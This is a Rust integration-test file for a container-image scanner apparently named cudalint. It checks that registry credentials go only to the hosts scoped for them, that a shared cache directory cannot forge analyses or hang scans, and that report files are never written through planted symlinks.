    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let img = Image::new(vec![(
        tar(&[
            Ent::File("opt/app/our_pkg/_our_fused_attn.so", read_fixture("libsm90a.so")),
            Ent::File("opt/app/our_pkg/_C.so", read_fixture("libmulti.so")),
        ]),
        Comp::Gzip,
    )]);
    oci_layout(&w.join("img"), &[&img]);
    reg.push(&w.join("img"), "kb/app:1", None);
    let kb = w.join("ours.toml");
    std::fs::write(
        &kb,
        "[[library]]\nprefix = \"_our_fused_attn\"\nnamed = \"no\"\ndispatch = { min = \"9.0\", below = \"10.0\", by = \
         \"our_pkg/attention.py picks it on Hopper only\" }\nsource = \"our_pkg 1.4\"\n",
    )
    .unwrap();
    let (key, public) = crate::signing::keypair(w, "runs");
    let args = [
        "--gpu",
        "L4",
        "--knowledge",
        kb.to_str().unwrap(),
        "--sign-key",
        key.to_str().unwrap(),
        "--verify-key",
        public.to_str().unwrap(),
    ];
    let o = registry_run(&reg, &w.join("first"), &args);
    assert_eq!(o.status.code(), Some(0), "gated on the L4 by the row: {}", stderr(&o));
    let first = summary_of(&w.join("first"));

    std::fs::write(&kb, "# the _our_fused_attn row is removed: its callers load it everywhere now\n").unwrap();
    let prev = w.join("first/summary.json");
    let o = registry_run(&reg, &w.join("second"), &[&args[..], &["--since", prev.to_str().unwrap()]].concat());
    let second = summary_of(&w.join("second"));
    assert_eq!(o.status.code(), Some(1), "judged again, not carried: {}\n{second}", stderr(&o));
    assert_ne!(second["fingerprint"], first["fingerprint"]);
    assert_eq!(second["since"]["carried"], 0, "{second}");
    let why = second["since"]["all_rejudged"].as_str().unwrap_or_default();
    assert!(why.contains("knowledge"), "{second}");
    assert_eq!(second["images"][0]["status"], "fail", "{second}");
}

/// A registry host that wants Basic credentials and records every `Authorization` it is sent:
/// `/v2/` answers 401 with a Basic challenge until one comes, everything else 401 or (with one)
/// 404. One request per connection.
pub(crate) struct Gate {
    port: u16,
    auths: Arc<Mutex<Vec<String>>>,
    requests: Arc<AtomicU64>,
}

impl Gate {
    pub(crate) fn start() -> Gate {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let auths = Arc::new(Mutex::new(Vec::new()));
        let requests = Arc::new(AtomicU64::new(0));
        let (a2, r2) = (auths.clone(), requests.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut c) = conn else { continue };
                let (auths, requests) = (a2.clone(), r2.clone());
                std::thread::spawn(move || {
                    let mut head = Vec::new();
                    let mut b = [0u8; 1];
                    while !head.ends_with(b"\r\n\r\n") {
                        match c.read(&mut b) {
                            Ok(1) if head.is_empty() && b[0] == 0x16 => return,
                            Ok(1) => head.push(b[0]),
                            _ => return,
                        }
                    }
                    requests.fetch_add(1, Ordering::SeqCst);
                    let head = String::from_utf8_lossy(&head).into_owned();
                    let auth = head.lines().find_map(|l| {
                        let (k, v) = l.split_once(':')?;
                        k.eq_ignore_ascii_case("authorization").then(|| v.trim().to_string())
                    });
                    let reply = match &auth {
                        Some(a) => {
                            auths.lock().unwrap().push(a.clone());
                            if head.starts_with("GET /v2/ ") { "200 OK" } else { "404 Not Found" }
                        }
                        None => "401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"gate\"",
                    };
                    let _ = c.write_all(
                        format!("HTTP/1.1 {reply}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").as_bytes(),
                    );
                });
            }
        });
        Gate { port, auths, requests }
    }

    pub(crate) fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    pub(crate) fn requests(&self) -> u64 {
        self.requests.load(Ordering::SeqCst)
    }

    pub(crate) fn auths(&self) -> Vec<String> {
        self.auths.lock().unwrap().clone()
    }
}

pub(crate) fn basic_of(user: &str, pass: &str) -> String {
    use base64::Engine as _;
    format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(format!("{user}:{pass}")))
}

/// cudalint with no credentials but those the test gives: an empty Docker config.
fn bare_cudalint(docker_config: &Path) -> Command {
    let mut c = Command::cargo_bin("cudalint").unwrap();
    c.env("DOCKER_CONFIG", docker_config)
        .env_remove("CUDALINT_REGISTRY_USERNAME")
        .env_remove("CUDALINT_REGISTRY_PASSWORD")
        .env_remove("CUDALINT_REGISTRY_HOST")
        .env_remove("CUDALINT_ANALYSIS_STORE")
        .timeout(Duration::from_secs(120));
    c
}

#[test]
fn command_line_credentials_go_to_the_images_registry_and_never_to_the_analysis_store() {
    let reg = Registry::start(false, Some(("ci", "s3cret")));
    let layout = tempfile::tempdir().unwrap();
    oci_layout(layout.path(), &[&test_image("amd64", "opt/x/libsm100f.so")]);
    reg.push(layout.path(), "app/img:1", Some(("ci", "s3cret")));
    let store = Gate::start();
    let docker = tempfile::tempdir().unwrap();
    let spec = format!("{}/app/img:1", reg.host());
    let store_repo = format!("{}/cudalint/analyses", store.host());
    let scan_as = |user: &str, pass: &str, extra: &[&str], env: &[(&str, &str)]| {
        let mut c = bare_cudalint(docker.path());
        c.args([
            "scan",
            &spec,
            "--quiet",
            "--no-cache",
            "--format",
            "inventory",
            "--analysis-store",
            &store_repo,
            "--trust-unsigned",
        ])
        .args(["--username", user, "--password-stdin"])
        .args(extra)
        .write_stdin(format!("{pass}\n"));
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().unwrap()
    };
    let scan = |extra: &[&str], env: &[(&str, &str)]| scan_as("ci", "s3cret", extra, env);
    let ci = basic_of("ci", "s3cret");

    // The store has credentials of its own (the environment, for its host): it gets those, the
    // image's registry gets the command line's, and the scan reads the image.
    let o = scan(
        &[],
        &[
            ("CUDALINT_REGISTRY_USERNAME", "keeper"),
            ("CUDALINT_REGISTRY_PASSWORD", "storepw"),
            ("CUDALINT_REGISTRY_HOST", &store.host()),
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let inv: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(inv["files"].as_array().unwrap().iter().any(|f| f["path"] == "/opt/x/libsm100f.so"));
    let seen = store.auths();
    assert!(!seen.is_empty(), "the store was asked with its own credentials");
    assert!(seen.iter().all(|a| *a == basic_of("keeper", "storepw")), "{seen:?}");

    // None of its own: the store is refused, and still never sees the image registry's pair.
    let before = store.requests.load(Ordering::SeqCst);
    let o = scan(&[], &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("--analysis-store") && stderr(&o).contains("needs credentials"), "{}", stderr(&o));
    assert!(store.requests.load(Ordering::SeqCst) > before, "the store was asked");
    assert!(!store.auths().contains(&ci), "{:?}", store.auths());

    // --registry-credentials names the store's host: the pair goes there (the gate does record
    // a pair it is sent), and the image's registry has its own, from the environment.
    let o = scan_as(
        "keeper",
        "pw2",
        &["--registry-credentials", &store.host()],
        &[
            ("CUDALINT_REGISTRY_USERNAME", "ci"),
            ("CUDALINT_REGISTRY_PASSWORD", "s3cret"),
            ("CUDALINT_REGISTRY_HOST", &reg.host()),
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(store.auths().contains(&basic_of("keeper", "pw2")), "{:?}", store.auths());
    assert!(!store.auths().contains(&ci), "{:?}", store.auths());
    // Named for another host, the pair does not go to the image's registry.
    let o = scan(&["--registry-credentials", "elsewhere.example", "--no-remote-cache"], &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains(&reg.host()) && stderr(&o).contains("needs credentials"), "{}", stderr(&o));

    // An unscoped environment pair is the command line's: the image's registry, not the store.
    let auths_before = store.auths().len();
    let o = bare_cudalint(docker.path())
        .args([
            "scan",
            &spec,
            "--quiet",
            "--no-cache",
            "--format",
            "inventory",
            "--analysis-store",
            &store_repo,
            "--trust-unsigned",
        ])
        .env("CUDALINT_REGISTRY_USERNAME", "ci")
        .env("CUDALINT_REGISTRY_PASSWORD", "s3cret")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("--analysis-store"), "{}", stderr(&o));
    assert_eq!(store.auths().len(), auths_before, "{:?}", store.auths());
}

#[test]
fn audit_sends_credentials_only_to_the_host_named_for_them() {
    let reg = Registry::start(false, Some(("ci", "s3cret")));
    let layout = tempfile::tempdir().unwrap();
    oci_layout(layout.path(), &[&test_image("amd64", "opt/x/libsm100f.so")]);
    reg.push(layout.path(), "app/img:1", Some(("ci", "s3cret")));
    // Another registry a manifest names: it must never see the pair.
    let other = Gate::start();
    let d = tempfile::tempdir().unwrap();
    let manifest = d.path().join("pod.yaml");
    std::fs::write(
        &manifest,
        format!(
            "apiVersion: v1\nkind: Pod\nmetadata: {{name: two}}\nspec:\n  containers:\n  - name: a\n    image: {}/app/img:1\n    resources: {{limits: {{nvidia.com/gpu: 1}}}}\n  - name: b\n    image: {}/other/img:1\n    resources: {{limits: {{nvidia.com/gpu: 1}}}}\n",
            reg.host(),
            other.host()
        ),
    )
    .unwrap();
    let audit = |extra: &[&str]| {
        bare_cudalint(d.path())
            .arg("audit")
            .arg(&manifest)
            .arg("--nodes")
            .arg(crate::util::root().join("fixtures/k8s/nodes.json"))
            .args(["--quiet", "--no-cache", "--format", "json", "--username", "ci", "--password-stdin"])
            .args(extra)
            .write_stdin("s3cret\n")
            .output()
            .unwrap()
    };
    // The manifests name the images: without a host named for it, the pair is refused outright.
    let o = audit(&[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("--registry-credentials HOST"), "{}", stderr(&o));
    assert_eq!(other.requests.load(Ordering::SeqCst), 0);
    // Named: that registry's image is read; the other registry is asked, anonymously.
    let o = audit(&["--registry-credentials", &reg.host()]);
    assert_eq!(o.status.code(), Some(2), "the other image cannot be read: {}", stderr(&o));
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let images = r["images"].as_array().unwrap();
    let of = |host: &str| images.iter().find(|i| i["image"].as_str().unwrap().starts_with(host)).unwrap().clone();
    assert!(of(&reg.host())["error"].is_null(), "{images:?}");
    assert!(of(&other.host())["error"].as_str().unwrap().contains("needs credentials"), "{images:?}");
    assert!(other.requests.load(Ordering::SeqCst) > 0, "the other registry was asked");
    assert!(other.auths().is_empty(), "{:?}", other.auths());
}

/// The entry files of a cache directory (not the lock files).
fn entry_files(cache: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(cache.join("layers"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().ends_with(".json.zst"))
        .collect();
    v.sort();
    v
}

/// An entry as whoever can write the cache directory can rewrite it: `from` renamed `to` in the
/// analysis, the body hash recomputed. Returns the MAC the file had and the forged entry.
fn forge_entry(file: &[u8], from: &str, to: &str) -> (Vec<u8>, Vec<u8>) {
    let magic = cudalint::cache::MAC_MAGIC;
    let (mac, entry) = file.split_at(magic.len() + 32);
    let plain = String::from_utf8(zstd::decode_all(entry).unwrap()).unwrap();
    let (head, body) = plain.split_once('\n').unwrap();
    let body = body.replace(from, to);
    let mut h: serde_json::Value = serde_json::from_str(head).unwrap();
    h["sha256"] = hex::encode(sha2::Sha256::digest(body.as_bytes())).into();
    (mac.to_vec(), zstd::encode_all(format!("{h}\n{body}").as_bytes(), 3).unwrap())
}

#[test]
fn a_shared_cache_directory_cannot_forge_an_analysis_or_hang_a_scan() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    oci_layout(layout.path(), &[&test_image("amd64", "opt/x/libsm100f.so")]);
    reg.push(layout.path(), "app/cached:1", None);
    let proxy = Proxy::start(reg.port);
    let spec = format!("{}/app/cached:1", proxy.host());
    let d = tempfile::tempdir().unwrap();
    let (cache, config) = (d.path().join("cache"), d.path().join("config"));
    let scan = || {
        let o = Command::cargo_bin("cudalint")
            .unwrap()
            .args(["scan", &spec, "--quiet", "--format", "inventory", "--cache-dir"])
            .arg(&cache)
            .env("XDG_CONFIG_HOME", &config)
            .env_remove("CUDALINT_CACHE_KEY")
            .timeout(Duration::from_secs(120))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        let inv: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        inv["files"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap().to_string()).collect::<Vec<_>>()
    };
    let real = scan();
    assert!(real.contains(&"/opt/x/libsm100f.so".to_string()), "{real:?}");
    // The key was made outside the cache directory, private.
    let key_file = config.join("cudalint/cache.key");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&key_file).unwrap().permissions().mode() & 0o777, 0o600);
    let entries = entry_files(&cache);
    assert_eq!(entries.len(), 2, "one entry per layer");
    // The entry of the layer holding the library, and the layer digests its header names.
    let header = |p: &Path| -> (serde_json::Value, String) {
        let f = std::fs::read(p).unwrap();
        let plain = String::from_utf8(zstd::decode_all(&f[cudalint::cache::MAC_MAGIC.len() + 32..]).unwrap()).unwrap();
        let (head, body) = plain.split_once('\n').unwrap();
        (serde_json::from_str(head).unwrap(), body.to_string())
    };
    let target = entries.iter().find(|p| header(p).1.contains("libsm100f.so")).unwrap().clone();
    let digest = header(&target).0["digest"].as_str().unwrap().to_string();
    let other = entries.iter().find(|p| **p != target).unwrap();
    let other_digest = header(other).0["digest"].as_str().unwrap().to_string();
    assert_eq!((proxy.blob_gets(&digest), proxy.blob_gets(&other_digest)), (1, 1));

    // Rewritten by a writer of the directory (body hash right, MAC kept): not believed, the
    // layer is pulled and analysed again.
    let (mac, forged) = forge_entry(&std::fs::read(&target).unwrap(), "libsm100f.so", "libforged.so");
    std::fs::write(&target, [&mac[..], &forged[..]].concat()).unwrap();
    assert_eq!(scan(), real);
    assert_eq!(
        (proxy.blob_gets(&digest), proxy.blob_gets(&other_digest)),
        (2, 1),
        "the forged layer pulled again, the other served from the cache"
    );
    // Minted without a MAC at all: the same.
    std::fs::write(&target, &forged).unwrap();
    assert_eq!(scan(), real);
    // Sealed with the key (which only this user holds), the same forgery would be believed:
    // the key is what stands between the directory's writers and the verdict.
    let secret = std::fs::read(&key_file).unwrap();
    let key = cudalint::cache::CacheKey::from_secret(secret.trim_ascii()).unwrap();
    let name = target.file_name().unwrap().to_string_lossy().trim_end_matches(".json.zst").to_string();
    std::fs::write(&target, key.seal(&name, &forged)).unwrap();
    assert!(scan().contains(&"/opt/x/libforged.so".to_string()));

    // FIFOs as every entry and every lock: refused at once, the scan reads the layers itself.
    for e in &entries {
        let lock = e.with_file_name(e.file_name().unwrap().to_string_lossy().replace(".json.zst", ".lock"));
        for p in [e, &lock] {
            let _ = std::fs::remove_file(p);
            let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
            // SAFETY: a valid NUL-terminated path.
            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        }
    }
    let before = (proxy.blob_gets(&digest), proxy.blob_gets(&other_digest));
    assert_eq!(scan(), real);
    assert_eq!((proxy.blob_gets(&digest), proxy.blob_gets(&other_digest)), (before.0 + 1, before.1 + 1));
}

#[test]
fn report_names_never_collide_nor_exceed_name_max_and_planted_links_are_not_followed() {
    let reg = Registry::start(false, None);
    // Two repositories whose names sanitize alike, holding different verdicts; a repository
    // name of 240 characters (its report name would pass NAME_MAX if spelled out).
    let long = format!("col/{}", "x".repeat(236));
    let pass = one_lib_image("libsm90a.so", "usr/lib/libsm90a.so");
    let fail = one_lib_image("libsm100f.so", "usr/lib/libsm100f.so");
    put_image(&reg, "col/a", "b_c", &pass);
    put_image(&reg, "col/a_b", "c", &fail);
    put_image(&reg, &long, "1", &pass);
    let first = tempfile::tempdir().unwrap();
    let o = registry_run(&reg, first.path(), &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let s = summary_of(first.path());
    let images = s["images"].as_array().unwrap();
    assert_eq!(images.len(), 3, "{s}");
    let mut names = Vec::new();
    for i in images {
        let name = i["report"].as_str().unwrap_or_else(|| panic!("no report: {i}")).to_string();
        assert!(name.len() <= 255, "{name}");
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(first.path().join(&name)).unwrap()).unwrap();
        // Each report is its own image's: the failing one says so, the passing ones do not.
        let failing = i["image"].as_str().unwrap().ends_with("col/a_b:c");
        assert_eq!(i["status"], if failing { "fail" } else { "pass" }, "{i}");
        assert_eq!(report["failed"], failing, "{name}: {report}");
        names.push(name);
    }
    names.sort();
    names.dedup();
    assert_eq!(names.len(), 3);

    // A shared output directory whose report and summary names are links planted by another
    // user: replaced, never followed (the files they point to are unchanged).
    let out = tempfile::tempdir().unwrap();
    let victims = tempfile::tempdir().unwrap();
    for name in names.iter().map(String::as_str).chain(["summary.json"]) {
        let victim = victims.path().join(name);
        std::fs::write(&victim, b"not yours").unwrap();
        std::os::unix::fs::symlink(&victim, out.path().join(name)).unwrap();
    }
    let o = registry_run(&reg, out.path(), &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    for name in names.iter().map(String::as_str).chain(["summary.json"]) {
        assert_eq!(std::fs::read(victims.path().join(name)).unwrap(), b"not yours", "{name}");
        let m = std::fs::symlink_metadata(out.path().join(name)).unwrap();
        assert!(m.file_type().is_file(), "{name}");
    }
    assert_eq!(summary_of(out.path())["images"], s["images"]);
}
